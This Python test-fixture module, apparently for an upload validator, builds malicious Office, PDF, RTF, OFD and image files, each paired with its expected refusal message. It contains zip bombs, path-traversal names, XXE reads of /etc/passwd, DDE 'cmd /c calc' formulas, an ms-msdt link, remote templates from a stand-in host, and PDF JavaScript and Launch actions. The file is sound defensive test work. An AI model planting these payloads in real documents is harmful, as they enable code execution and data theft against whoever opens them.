"""Files that attack whoever opens them, built here in code: each with the word of the line that refuses it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from app.files import ofd, packed, pdf, picture, unpacked, with_parts, workbook
from prints import word

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


@dataclass(frozen=True, slots=True)
class Attack:
    """A file under its name, and words of the line with which it is refused."""

    name: str
    data: Callable[[], bytes]
    line: str


def docx() -> bytes:
    """A harmless Word document."""
    return word(["示例区人民政府工作报告", "新建管网9公里。"])


def xlsx() -> bytes:
    """A harmless workbook."""
    return workbook(["日期", "安排"], ["2027-10-01", "放假"])


def relation(kind: str, target: str) -> bytes:
    """A file of relations that points outside."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="rId9" Type="{base}/{kind}"'
        f' Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def field_code(*pieces: str) -> bytes:
    """A Word document whose field code is cut into runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    parts = unpacked(docx())
    body = parts["word/document.xml"].decode()
    field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return packed(parts | {"word/document.xml": body.replace("<w:sectPr", field + "<w:sectPr", 1).encode()})


def sheet_with(words: str) -> bytes:
    """A workbook whose sheet holds these words of XML before its end."""
    parts = unpacked(xlsx())
    name = "xl/worksheets/sheet1.xml"
    return packed(parts | {name: parts[name].replace(b"</sheetData>", f"</sheetData>{words}".encode(), 1)})


def formula(words: str) -> bytes:
    """A workbook with a formula."""
    parts = unpacked(xlsx())
    name = "xl/worksheets/sheet1.xml"
    row = f'<row r="9"><c r="A9"><f>{words}</f><v>1</v></c></row></sheetData>'
    return packed(parts | {name: parts[name].replace(b"</sheetData>", row.encode(), 1)})


def large(parts: Mapping[str, int], beside: bytes) -> bytes:
    """An archive with parts of so many zeros."""
    return with_parts(beside, {name: b"0" * size for name, size in parts.items()})


def crowded(beside: bytes) -> bytes:
    """An archive of more parts than a document has."""
    return with_parts(beside, {f"word/media/{number}.txt": b"" for number in range(5000)})


def linked(beside: bytes) -> bytes:
    """An archive with a symbolic link."""
    held = io.BytesIO(beside)
    with zipfile.ZipFile(held, "a") as archive:
        link = zipfile.ZipInfo("word/media/a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return held.getvalue()


def named(name: str, beside: bytes) -> bytes:
    """An archive with a part of that name."""
    return with_parts(beside, {name: b"x"})


def twice(beside: bytes) -> bytes:
    """An archive with the same part twice, in small and in capital letters."""
    return with_parts(beside, {"word/DOCUMENT.xml": b"<a/>"})


def overlapping(beside: bytes) -> bytes:
    """An archive whose directory leads to the same bytes under two names."""
    held = io.BytesIO(beside)
    with zipfile.ZipFile(held, "a") as archive:
        first = archive.infolist()[0]
        again = zipfile.ZipInfo("word/media/again.xml")
        for attribute in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(again, attribute, getattr(first, attribute))
        archive.filelist.append(again)
        archive.NameToInfo[again.filename] = again
        setattr(archive, "_didModify", True)  # noqa: B010  it is none of zipfile's published attributes
    return held.getvalue()


def locked(beside: bytes) -> bytes:
    """An archive that says its parts are encrypted."""
    data = bytearray(beside)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            data[start + place] |= 1
            start = data.find(signature, start + 4)
    return bytes(data)


def old(*streams: str) -> bytes:
    """What begins like an OLE file and names these streams."""
    entries = b"".join((name + "\0").encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return OLE + b"\0" * 504 + entries


def object_stream(words: bytes) -> bytes:
    """A PDF that keeps objects in a packed stream."""
    held = zlib.compress(words)
    about = b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(held)
    return pdf("正文").replace(b"xref\n", about + held + b"\nendstream\nendobj\nxref\n", 1)


def huge_jpeg() -> bytes:
    """A JPEG that says it is 60,000 pixels square."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + (
        b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 60000, 60000) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    )


MERGED_WHOLE = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
LINK = b"<externalLink><externalBook/></externalLink>"
DDE_LINK = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
NORMAL = "word/_rels/settings.xml.rels"

# Attacks on every door that takes the kind; the name ends as the file pretends to be.
ATTACKS: Mapping[str, Attack] = {
    "a bomb in a Word file": Attack("a.docx", lambda: large({"word/media/a.txt": 220 * 2**20}, docx()), "远超一份文件"),
    "a bomb by its ratio": Attack("a.docx", lambda: large({"word/media/a.txt": 60 * 2**20}, docx()), "远超一份文件"),
    "a bomb of markup": Attack("a.xlsx", lambda: large({"xl/a.xml": 70 * 2**20}, xlsx()), "远超一份文件"),
    "too many parts": Attack("a.docx", lambda: crowded(docx()), "远超一份文件"),
    "parts over each other": Attack("a.docx", lambda: overlapping(docx()), "远超一份文件"),
    "every cell merged": Attack("a.xlsx", lambda: sheet_with(MERGED_WHOLE), "远超一份文件"),
    "an archive inside": Attack(
        "a.docx", lambda: with_parts(docx(), {"word/media/a.bin": packed({"a": b"b"})}), "另一个压缩包"
    ),
    "a Word file in a Word file": Attack(
        "a.docx", lambda: with_parts(docx(), {"word/embeddings/a.docx": docx()}), "另一个压缩包"
    ),
    "a path upwards": Attack("a.docx", lambda: named("../../etc/cron.d/x", docx()), "内部路径"),
    "a path from the root": Attack("a.docx", lambda: named("/etc/cron.d/x", docx()), "内部路径"),
    "a path of Windows": Attack("a.docx", lambda: named("C:\\Windows\\x", docx()), "内部路径"),
    "a link": Attack("a.docx", lambda: linked(docx()), "内部路径"),
    "a part twice": Attack("a.docx", lambda: twice(docx()), "内部路径"),
    "a path upwards in an OFD": Attack("a.ofd", lambda: named("../../x", ofd("正文")), "内部路径"),
    "a locked archive": Attack("a.docx", lambda: locked(docx()), "密码"),
    "a macro in a Word file": Attack("a.docx", lambda: named("word/vbaProject.bin", docx()), "含有宏"),
    "a macro under another name": Attack(
        "a.docx", lambda: with_parts(docx(), {"word/media/image1.png": old("_VBA_PROJECT")}), "含有宏"
    ),
    "a macro file by its types": Attack(
        "a.docx",
        lambda: with_parts(
            docx(),
            {
                "[Content_Types].xml": unpacked(docx())["[Content_Types].xml"].replace(
                    b"officedocument.wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        "含有宏",
    ),
    "a macro workbook": Attack("a.xlsx", lambda: named("xl/vbaProject.bin", xlsx()), "含有宏"),
    "Excel 4's macro sheet": Attack("a.xlsx", lambda: named("xl/macrosheets/sheet1.xml", xlsx()), "含有宏"),
    "a macro in an old Word file": Attack("a.doc", lambda: old("WordDocument", "Macros", "_VBA_PROJECT"), "含有宏"),
    "a macro sheet in an old workbook": Attack(
        "a.xls", lambda: old("Workbook") + b"\x85\x00\x0e\x00\x11\x22\x00\x00\x01\x01\x06\x00Macro1", "含有宏"
    ),
    "an object in a Word file": Attack(
        "a.docx", lambda: with_parts(docx(), {"word/embeddings/oleObject1.bin": OLE + b"\0" * 600}), "其他程序的对象"
    ),
    "a control": Attack("a.docx", lambda: named("word/activeX/activeX1.xml", docx()), "其他程序的对象"),
    "a program inside": Attack(
        "a.docx", lambda: with_parts(docx(), {"word/media/a.png": b"MZ\x90\x00"}), "其他程序的对象"
    ),
    "an equation of the old editor": Attack("a.doc", lambda: old("WordDocument", "Equation Native"), "其他程序的对象"),
    "an object in RTF": Attack("a.rtf", lambda: rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", "其他程序的对象"),
    "another document as a part": Attack(
        "a.docx", lambda: with_parts(docx(), {NORMAL: relation("aFChunk", "http://x.example/a.mht")}), "其他程序的对象"
    ),
    "a template from elsewhere": Attack(
        "a.docx",
        lambda: with_parts(docx(), {NORMAL: relation("attachedTemplate", "http://x.example/a.dotm")}),
        "外部地址",
    ),
    "a template from a share": Attack(
        "a.docx",
        lambda: with_parts(docx(), {NORMAL: relation("attachedTemplate", "file://x.example/a.dotm")}),
        "外部地址",
    ),
    "a picture from elsewhere": Attack(
        "a.docx", lambda: with_parts(docx(), {NORMAL: relation("image", "\\\\x.example\\a.png")}), "外部地址"
    ),
    "a link that starts a program": Attack(
        "a.docx", lambda: with_parts(docx(), {NORMAL: relation("hyperlink", "ms-msdt:/id PCWDiagnostic")}), "外部地址"
    ),
    "a field that fetches": Attack(
        "a.docx", lambda: field_code(' INCLUDEPICTURE "http', '://x.example/a.png" '), "外部地址"
    ),
    "a template in RTF": Attack("a.rtf", lambda: rb"{\rtf1{\*\template http://x.example/a.dotm}}", "外部地址"),
    "DDE in a field": Attack(
        "a.docx", lambda: field_code(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "), "调用其他程序"
    ),
    "DDE in a cell": Attack("a.xlsx", lambda: formula("cmd|'/c calc'!A0"), "调用其他程序"),
    "a formula that fetches": Attack(
        "a.xlsx", lambda: formula("WEBSERVICE(&quot;http://x.example&quot;)"), "调用其他程序"
    ),
    "a DDE link": Attack(
        "a.xlsx", lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": DDE_LINK}), "调用其他程序"
    ),
    "another workbook": Attack(
        "a.xlsx", lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": LINK}), "其他工作簿"
    ),
    "a data connection": Attack(
        "a.xlsx", lambda: with_parts(xlsx(), {"xl/connections.xml": b"<connections/>"}), "其他工作簿"
    ),
    "entities in a Word file": Attack(
        "a.docx", lambda: with_parts(docx(), {"word/document.xml": LAUGHS}), "定义了实体"
    ),
    "entities in a workbook": Attack(
        "a.xlsx", lambda: with_parts(xlsx(), {"xl/sharedStrings.xml": OUTSIDE}), "定义了实体"
    ),
    "entities in two bytes": Attack(
        "a.xlsx",
        lambda: with_parts(xlsx(), {"xl/sharedStrings.xml": OUTSIDE.decode().encode("utf-16")}),
        "定义了实体",
    ),
    "entities in an OFD": Attack(
        "a.ofd", lambda: with_parts(ofd("正文"), {"Doc_0/Pages/Page_0/Content.xml": OUTSIDE}), "定义了实体"
    ),
    "a script in a PDF": Attack(
        "a.pdf", lambda: pdf("正文", catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "有脚本"
    ),
    "a script with a spelt name": Attack(
        "a.pdf", lambda: pdf("正文", catalog="/OpenAction << /S /Java#53cript /J#53 (x) >>"), "有脚本"
    ),
    "a script in a packed object": Attack(
        "a.pdf", lambda: object_stream(b"9 0 << /S /JavaScript /JS (x) >>"), "有脚本"
    ),
    "a program that a PDF starts": Attack(
        "a.pdf", lambda: pdf("正文", catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "启动程序"
    ),
    "a form that a PDF sends": Attack(
        "a.pdf", lambda: pdf("正文", catalog="/AA << /S /SubmitForm /F (x) >>"), "启动程序"
    ),
    "a file in a PDF": Attack(
        "a.pdf", lambda: pdf("正文", catalog="/Names << /EmbeddedFiles << >> >>"), "夹带其他文件"
    ),
    "a bomb in a PDF": Attack("a.pdf", lambda: object_stream(b"0" * (110 * 2**20)), "远超一份文件"),
    "a locked PDF": Attack("a.pdf", lambda: pdf("正文", trailer="/Encrypt << /Filter /Standard /V 2 >>"), "密码"),
    "a picture too large": Attack("a.png", lambda: picture(30000, 30000), "图片尺寸"),
    "a JPEG too large": Attack("a.jpg", huge_jpeg, "图片尺寸"),
    "a program under a paper's name": Attack("a.docx", lambda: b"MZ\x90\x00" * 99, "看不出是什么文件"),
    "a PDF under a Word name": Attack("a.docx", lambda: pdf("正文"), "内容却是"),
    "a Word file under a PDF name": Attack("a.pdf", docx, "内容却是"),
    "a page under a workbook's name": Attack("a.xlsx", lambda: b"<html><script>alert(1)</script></html>", "内容却是"),
    "an archive": Attack("a.zip", lambda: packed({"a.txt": b"x"}), "不收压缩包"),
    "an archive under a Word name": Attack("a.docx", lambda: packed({"a.txt": b"x"}), "不收压缩包"),
    "an ending turned round": Attack("a\u202excod.exe", docx, "不收 .exe"),
    "an ending behind another": Attack("报告.docx.exe", docx, "不收 .exe"),
    "a path as a name": Attack("../../a.exe", docx, "不收 .exe"),
    "nothing": Attack("a.docx", lambda: b"", "空文件"),
    "zeros": Attack("a.docx", lambda: b"\0" * 999, "空文件"),
    "too much": Attack("a.txt", lambda: b"0" * (20 * 2**20 + 1), "超过"),
    "half a Word file": Attack("a.docx", lambda: docx()[:-200], "损坏"),
    "half an OFD": Attack("a.ofd", lambda: ofd("正文")[:300], "损坏"),
    "a mark in a Word file": Attack("a.docx", lambda: word(["机密★1年", "关于某事的通知"]), "机密★1年"),
    "a mark in a PDF": Attack("a.pdf", lambda: pdf("秘密★5年", "关于某事的通知"), "秘密★5年"),
    "a mark in a workbook": Attack("a.xlsx", lambda: workbook(["绝密★长期"], ["序号"]), "绝密★长期"),
    "a mark in an OFD": Attack("a.ofd", lambda: ofd("机密★1年", "通知"), "机密★1年"),
    "a mark in a text": Attack("a.txt", lambda: "机密★1年\n通知".encode("gb18030"), "机密★1年"),
    "a mark in a name": Attack("【机密】通知.docx", docx, "机密"),
}
